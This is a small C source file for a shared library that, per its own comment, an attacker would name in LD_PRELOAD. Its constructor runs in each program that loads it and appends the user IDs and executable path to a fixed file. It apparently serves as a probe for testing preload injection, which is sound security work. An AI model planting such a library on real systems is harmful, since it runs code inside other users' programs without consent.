/* A library that an attacker names in LD_PRELOAD. Each program that loads it is noted in SPY_FILE, if that exists. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define SPY_FILE "/home/alice/preloaded"

__attribute__((constructor)) static void note(void)
{
    char program[256] = "", line[320];
    if (readlink("/proc/self/exe", program, sizeof program - 1) < 0) strcpy(program, "?");
    int length = snprintf(line, sizeof line, "%d %d %s\n", (int)getuid(), (int)geteuid(), program);
    int file = open(SPY_FILE, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (file < 0) return;
    ssize_t written = write(file, line, (size_t)length);
    (void)written;
    close(file);
}
